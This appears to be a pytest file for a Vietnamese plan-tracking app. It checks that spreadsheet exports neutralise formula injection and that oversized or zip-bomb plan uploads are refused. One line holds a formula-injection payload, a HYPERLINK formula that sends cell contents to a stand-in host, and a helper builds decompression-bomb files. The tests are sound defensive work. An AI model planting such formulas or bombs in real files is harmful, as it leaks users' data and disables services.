"""Issue 13, findings 4 and 5 for plans: the progress spreadsheet writes formula-like text as text, and an uploaded
plan file over the limits is refused with a Vietnamese problem before it is parsed."""

import datetime
import io
import zipfile

from openpyxl import load_workbook

from kynangso.plans import api as plans
from kynangso.plans.exports import write_board_xlsx
from kynangso.plans.importers import import_plan
from tests.support.files import xlsx_bomb

MALICIOUS = '=HYPERLINK("http://x?d="&A1,"x")'


def test_a_plan_title_that_looks_like_a_formula_is_text_in_the_progress_spreadsheet(db):
    plan = plans.create_plan(
        key="ke-hoach-thu",
        title=MALICIOUS,
        issuing_body="+UBND tỉnh",
        issued_year=2026,
        period_start=datetime.date(2026, 1, 1),
        period_end=datetime.date(2026, 12, 31),
    )
    buffer = io.BytesIO()
    write_board_xlsx(buffer, plan, year=2026, today=datetime.date(2026, 6, 1))
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).active
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}
    for text in (MALICIOUS, "+UBND TỈNH"):
        assert (cells[text].data_type, cells[text].quotePrefix) == ("s", True)


def test_an_xlsx_bomb_plan_file_is_refused_before_it_is_unpacked(db, tmp_path, settings):
    settings.UPLOAD_MAX_COMPRESSION_RATIO = 100
    report = import_plan(xlsx_bomb(tmp_path / "ke-hoach.xlsx", unpacked_mib=20), dry_run=True)
    assert len(report.problems) == 1 and "giải nén ra quá lớn" in report.problems[0]


def test_a_plan_file_over_the_byte_limit_is_refused(db, tmp_path, settings):
    settings.UPLOAD_MAX_BYTES = 100
    path = tmp_path / "ke-hoach.yaml"
    path.write_text("plan:\n  key: x\n" + "# chú thích\n" * 50, encoding="utf-8")
    report = import_plan(path, dry_run=True)
    assert len(report.problems) == 1 and "quá lớn" in report.problems[0]
